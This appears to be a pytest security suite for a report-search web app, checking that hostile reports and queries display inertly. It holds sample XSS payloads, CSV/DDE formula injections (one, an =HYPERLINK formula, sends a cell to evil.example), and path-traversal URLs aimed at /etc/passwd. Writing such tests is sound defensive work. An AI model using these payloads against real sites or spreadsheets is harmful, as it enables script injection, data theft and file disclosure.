"""Hostile queries and hostile documents through the web app: text stays text, nothing runs, nothing 5xx.

The corpus holds reports written to attack the pages that show them: script
tags, event handlers, javascript: links, raw HTML in markdown, and cells a
spreadsheet would run as formulas. Queries are fuzzed with hypothesis on
every search route and parameter.
"""

from __future__ import annotations

import csv
import io
import json
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from indexer.search.query import QueryError
from indexer.search.service import SearchService
from indexer.store.indexing import index_corpus

from support import ROOT

ARTIFACTS = ROOT / "test-artifacts"
ATOM = "{http://www.w3.org/2005/Atom}"
SLOWEST_ANSWER = 2.0
"""Seconds. Answers take milliseconds; the bound only catches a hang, on a busy two-core machine."""

HOSTILE_MARKDOWN = """# Inspection of <script>alert('title')</script> Constabulary

Published 8 January 2020

## Summary <img src=x onerror=alert('heading')>

The custody <script>alert(1)</script> records were poor, inspectors said.

<img src=x onerror=alert(2)> Officers said the custody <b onmouseover=alert(3)>handover</b> was late.

Custody links: <a href="javascript:alert(5)">custody link</a> and <a href=" JaVaScRiPt:alert(6)">another</a>.

=HYPERLINK("http://evil.example/?q="&A1,"Custody details")

@SUM(1+1)*cmd|' /C calc'!A0 custody formula.

<iframe src="javascript:alert(7)"></iframe> custody frame <svg onload=alert(8)>

Custody footnote marker with a quote " and an apostrophe ' and an ampersand &amp; in it.
"""
HOSTILE_TEXT = """=cmd|' /C calc'!A0 Custody title

Published 9 January 2020

-2+3 custody cells begin with a minus sign and a formula.

+1+1 custody cells begin with a plus sign.
"""
HOSTILE_HTML = """<html><head><title>x</title><script>alert('head')</script></head><body><main>
<h1>Custody page with <em>markup</em></h1>
<p>The custody suite &lt;script&gt;alert(9)&lt;/script&gt; was clean.</p>
<p onclick="alert(10)">Custody text in a paragraph with a handler.</p>
<script>alert(11)</script>
<p><a href="javascript:alert(12)">custody javascript link</a> text.</p>
</main></body></html>
"""
HOSTILE_FILES = {"hostile.md": HOSTILE_MARKDOWN, "formula.txt": HOSTILE_TEXT, "hostile.html": HOSTILE_HTML}
REPORT_IDS = ("hostile-md", "formula", "hostile-html")

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "]]><script>alert(1)</script><![CDATA[",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "custody <script>alert(1)</script>",
    'custody" onmouseover="alert(1)',
    "force:<script>alert(1)</script>",
    '"custody <b onmouseover=alert(1)>"',
]
"""Typed into the query box and every other parameter."""

PARAMETERS = (
    "q", "force", "inspectorate", "theme", "section", "finding", "type", "year", "area", "sort", "page", "per_page",
)
SEARCH_ROUTES = ("/search", "/api/search", "/search.csv", "/search.json", "/search.atom")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An index of the hostile reports beside two ordinary ones, and a web app over it."""
    from webapp import create_app

    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    corpus.mkdir()
    for name, text in HOSTILE_FILES.items():
        (corpus / name).write_text(text, encoding="utf-8")
    from reportgen import report_text

    for number in range(2):
        (corpus / f"ordinary-{number}.md").write_text(report_text(number, paragraphs=6), encoding="utf-8")
    summary = index_corpus(corpus, root / "index", workers=0)
    assert summary.failed == []
    app = create_app({"TESTING": True, "INDEX_DIR": str(root / "index")})
    return app, root


@pytest.fixture(scope="module")
def client(hostile):
    return hostile[0].test_client()


TIMINGS = {"requests": 0, "slowest_seconds": 0.0, "slowest_url": ""}


def _timed_get(client, url: str):
    started = time.monotonic()
    response = client.get(url)
    elapsed = time.monotonic() - started
    TIMINGS["requests"] += 1
    if elapsed > TIMINGS["slowest_seconds"]:
        TIMINGS.update(slowest_seconds=round(elapsed, 4), slowest_url=url[:200])
    assert elapsed < SLOWEST_ANSWER, (url, elapsed)
    return response, elapsed


# -- what "displayed as text" means for each format ------------------------------------------


def assert_inert_html(html: str, where: str) -> None:
    """No script that is not our static file, no event handler, no javascript: URL."""
    soup = BeautifulSoup(html, "lxml")
    for script in soup.find_all("script"):
        assert script.get("src", "").startswith("/static/") and not script.string, (where, str(script)[:200])
    for element in soup.find_all(True):
        handlers = [name for name in element.attrs if name.lower().startswith("on")]
        assert not handlers, (where, str(element)[:200])
        for name in ("href", "src", "action", "formaction", "xlink:href", "data"):
            value = "".join(str(element.get(name, "")).split()).lower()
            assert not value.startswith(("javascript:", "data:text/html", "vbscript:")), (where, str(element)[:200])
    for tag in ("iframe", "object", "embed", "base", "frame"):
        assert soup.find(tag) is None, (where, str(soup.find(tag))[:200])


def assert_inert_atom(body: bytes, where: str) -> None:
    """The feed parses as XML, and every type="html" field is inert HTML once unescaped."""
    feed = ET.fromstring(body)
    for element in feed.iter():
        if element.get("type") == "html" and element.text:
            assert_inert_html(element.text, f"{where} <{element.tag}>")
        if element.tag == f"{ATOM}link":
            assert not element.get("href", "").strip().lower().startswith("javascript:"), where


def assert_inert_csv(body: str, where: str) -> list[dict]:
    """No cell starts with a character a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (where, cell[:80])
    header, *records = rows
    return [dict(zip(header, record, strict=True)) for record in records]


def assert_inert(response, where: str) -> None:
    if response.mimetype == "text/html":
        assert_inert_html(response.get_data(as_text=True), where)
    elif response.mimetype == "application/atom+xml":
        assert_inert_atom(response.get_data(), where)
    elif response.mimetype == "text/csv":
        assert_inert_csv(response.get_data(as_text=True), where)
    else:
        assert response.mimetype in ("application/json", "application/problem+json"), (where, response.mimetype)


# -- hostile documents -----------------------------------------------------------------------


def test_hostile_report_text_is_indexed_as_text(hostile):
    """The script tags and formulas in the reports are kept as literal text in the index."""
    _, root = hostile
    with SearchService(root / "index") as service:
        texts = [r["text"] for r in service.all_paragraphs() if r["report_id"] in REPORT_IDS]
        titles = {e["report_id"]: e["title"] for e in service.reports()}
    assert "The custody <script>alert(1)</script> records were poor, inspectors said." in texts
    assert '=HYPERLINK("http://evil.example/?q="&A1,"Custody details")' in texts
    assert titles["hostile-md"] == "Inspection of <script>alert('title')</script> Constabulary"
    assert "alert(11)" not in " ".join(texts) and "alert('head')" not in " ".join(texts)  # HTML <script> dropped


@pytest.mark.parametrize(
    "url",
    [
        "/search?q=custody",
        "/search?q=custody&per_page=100&sort=newest",
        "/search?q=alert",
        "/search?q=script",
        "/search?q=hyperlink",
        "/reports",
        "/",
        "/reports/hostile-md",
        "/reports/hostile-md?q=custody",
        "/reports/hostile-html?q=alert",
        "/reports/formula?q=custody",
        "/search.atom?q=custody",
        "/search.atom?q=alert",
        "/search.csv?q=custody",
        "/search.csv?q=formula",
        "/search.json?q=custody",
        "/api/search?q=custody",
        "/api/reports/hostile-md",
    ],
)
def test_hostile_documents_display_as_text_everywhere(client, url):
    """Snippets, report pages, the report list, feeds and exports show the payloads as inert text."""
    response, _ = _timed_get(client, url)
    assert response.status_code == 200, url
    assert_inert(response, url)


def test_report_page_shows_the_script_tag_as_visible_text(client):
    """The reader sees "<script>alert(1)</script>" written out, because it is escaped, not dropped."""
    response = client.get("/reports/hostile-md")
    soup = BeautifulSoup(response.get_data(as_text=True), "lxml")
    visible = soup.get_text(" ")
    assert "<script>alert(1)</script>" in visible
    assert "<img src=x onerror=alert(2)>" in visible
    assert soup.h1 is not None and "<script>alert('title')</script>" in soup.h1.get_text()


def test_csv_export_neutralises_formula_cells(client):
    """Text and titles that start with = + - @ are exported with a leading apostrophe."""
    rows = assert_inert_csv(client.get("/search.csv?q=custody&per_page=100").get_data(as_text=True), "csv")
    texts = {row["text"] for row in rows}
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Custody details\")" in texts
    assert "'-2+3 custody cells begin with a minus sign and a formula." in texts
    assert "'+1+1 custody cells begin with a plus sign." in texts
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 custody formula." in texts
    titles = {row["report_title"] for row in rows if row["report_id"] == "formula"}
    assert titles == {"'=cmd|' /C calc'!A0 Custody title"}


def test_feed_carries_the_payload_escaped(client):
    """In the Atom feed the script tag is text inside type="html" content, escaped twice over."""
    body = client.get("/search.atom?q=records").get_data()
    assert b"<script>" not in body
    contents = [e.text for e in ET.fromstring(body).iter(f"{ATOM}content")]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in text for text in contents)


# -- path traversal --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/reports/..%2f..%2fpyproject.toml",
        "/reports/..%2F..%2F..%2Fetc%2Fpasswd",
        "/reports/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/reports/%252e%252e%252fetc%252fpasswd",
        "/reports/..%5c..%5cpyproject.toml",
        "/reports/%2fetc%2fpasswd",
        "/reports/hostile.md",
        "/reports/hostile%00",
        "/reports/HOSTILE",
        "/reports/secret-link",
        "/p/..%2f..%2fetc%2fpasswd",
        "/p/hostile--..%2f..%2fsecret",
        "/p/%2e%2e",
        "/api/reports/..%2f..%2fpyproject.toml",
        "/api/reports/%2fetc%2fpasswd",
        "/api/paragraphs/..%2fsecret",
        "/static/..%2f..%2fpyproject.toml",
        "/static/%2e%2e/%2e%2e/pyproject.toml",
        "/static/..%5c__init__.py",
        "/static//etc/passwd",
        "/corpus/hostile.md",
        "/hostile.md",
    ],
)
def test_path_traversal_is_404(hostile, client, url):
    """Report ids, paragraph ids and static file names cannot reach files outside their folder."""
    response = client.get(url, follow_redirects=True)  # "//" is first redirected to "/"
    assert response.status_code == 404, (url, response.status_code)
    body = response.get_data(as_text=True)
    assert "[build-system]" not in body and "root:" not in body and "secret text" not in body


def test_symlinked_report_outside_the_corpus_is_never_served(tmp_path):
    """A link in the corpus to a file outside it is refused by the indexer, so its page is 404."""
    from webapp import create_app

    secret = tmp_path / "secret.txt"
    secret.write_text("Inspection of Secretshire\n\nsecret text that must not be served.\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "ordinary.md").write_text(HOSTILE_TEXT, encoding="utf-8")
    (corpus / "secret-link.txt").symlink_to(secret)
    summary = index_corpus(corpus, tmp_path / "index", workers=0)
    assert summary.failed == [("secret-link.txt", "symbolic link to a file outside the corpus")]
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index")}).test_client()
    for url in ("/reports/secret-link", "/api/reports/secret-link", "/search?q=secret", "/search.csv?q=secret"):
        response = client.get(url)
        assert "secret text" not in response.get_data(as_text=True), url
    assert client.get("/reports/secret-link").status_code == 404


# -- hostile queries -------------------------------------------------------------------------

FIXED_HOSTILE_QUERIES = [
    "q=%00",
    "q=custody%00",
    "q=%ED%A0%80",  # a lone surrogate, UTF-8 encoded
    "q=%ED%B2%80custody",
    "q=" + "x" * 10_000,
    "q=" + "%28" * 2000 + "custody" + "%29" * 2000,
    "q=" + "%28" * 2000,
    "q=*",
    "q=%3Fx",
    "q=?x",
    "q=a*",
    "q=**",
    "q=custody*",
    "q=%22" * 50,
    "q=-",
    "q=-custody",
    "q=OR",
    "q=AND+OR+AND",
    "q=nosuchfield:value",
    "q=force:",
    "q=year:1..99999999999999999999",
    "q=year:2020..2019",
    "page=99999999999999999999",
    "page=9999999",
    "page=-1",
    "page=0",
    "page=1e9",
    "page=%EF%BC%91",  # a full-width digit
    "per_page=0",
    "per_page=101",
    "per_page=99999999999999999999",
    "sort=bogus",
    "sort=relevance&sort=newest",
    "force=" + "x" * 10_000,
    "force=" + "&force=".join(f"f{i}" for i in range(200)),
    "year=abcd",
    "nosuchparam=1",
    "q=custody&" + "&".join(f"p{i}=x" for i in range(500)),
    "q=" + "+".join(["custody"] * 300),
    "q=" + "%F0%9F%92%A3" * 200,
]


@pytest.mark.parametrize("route", SEARCH_ROUTES)
def test_fixed_hostile_queries_answer_or_400_quickly(client, route):
    """The classic hostile inputs on every search route: 200 or 400, never 5xx, never slow."""
    slowest = 0.0
    for query in FIXED_HOSTILE_QUERIES:
        response, elapsed = _timed_get(client, f"{route}?{query}")
        slowest = max(slowest, elapsed)
        assert response.status_code in (200, 400), (route, query[:80], response.status_code)
        assert_inert(response, f"{route}?{query[:80]}")


@pytest.mark.parametrize("route", (*SEARCH_ROUTES, "/reports/hostile-md", "/p/hostile-md--p-00000000"))
@pytest.mark.parametrize("parameter", PARAMETERS)
def test_xss_payloads_never_reach_a_page_feed_or_csv(client, route, parameter):
    """Each XSS payload in each parameter comes back escaped (or refused), never live."""
    for payload in XSS_PAYLOADS:
        url = f"{route}?{parameter}={quote(payload, safe='')}"
        response, _ = _timed_get(client, url)
        assert response.status_code < 500, (url, response.status_code)
        assert_inert(response, url)
        location = response.headers.get("Location", "")
        assert not location.lower().lstrip().startswith("javascript:"), url


def _percent_encode(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


HOSTILE_PIECES = st.sampled_from(
    ["(", ")", '"', "*", "?", "-", ":", "OR", "AND", "\x00", "\ud800", "\udfff", "<script>", "force:", "year:",
     "..", "%", "&", "=", "'", "\\", "\u202e", "\ufeff", " ", "custody", "records"]
)  # fmt: skip
QUERY_TEXT = st.lists(
    st.one_of(HOSTILE_PIECES, st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=12)),
    max_size=30,
).map("".join)
PAGE_VALUES = st.one_of(st.integers(-5, 10**20).map(str), st.text(max_size=6))


@settings(max_examples=250, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    route=st.sampled_from(SEARCH_ROUTES),
    query=QUERY_TEXT,
    extra=st.dictionaries(
        st.sampled_from((*PARAMETERS[1:], "bogus", "q")), st.one_of(QUERY_TEXT, PAGE_VALUES), max_size=4
    ),
)
def test_fuzzed_parameters_never_5xx_and_never_hang(client, route, query, extra):
    """Hypothesis-built queries and parameters: an answer or a 400, in well under a second, inert."""
    pairs = [("q", query), *extra.items()]
    url = route + "?" + "&".join(f"{name}={_percent_encode(value)}" for name, value in pairs)
    response, _ = _timed_get(client, url)
    assert response.status_code in (200, 400), (url[:300], response.status_code)
    assert_inert(response, url[:300])


@settings(max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    query=QUERY_TEXT,
    page=st.integers(-3, 10**6),
    per_page=st.integers(-3, 200),
    sort=st.sampled_from(["relevance", "newest", "oldest", "x"]),
)
def test_fuzzed_service_search_raises_only_query_error(hostile, query, page, per_page, sort):
    """SearchService.search, the API under every front end, refuses with QueryError or answers, quickly."""
    service = _service(hostile)
    started = time.monotonic()
    try:
        result = service.search(query, page=page, per_page=per_page, sort=sort)
    except QueryError as error:
        assert str(error)
    else:
        assert result["total"] >= 0 and len(result["results"]) <= per_page
    assert time.monotonic() - started < SLOWEST_ANSWER


_services: dict[Path, SearchService] = {}


def _service(hostile) -> SearchService:
    root = hostile[1]
    if root not in _services:
        _services[root] = SearchService(root / "index")
    return _services[root]


@pytest.fixture(scope="module", autouse=True)
def _close_services_and_record_timings():
    yield
    for service in _services.values():
        service.close()
    _services.clear()
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "hostile-queries.json").write_text(json.dumps(TIMINGS, indent=1) + "\n", encoding="utf-8")
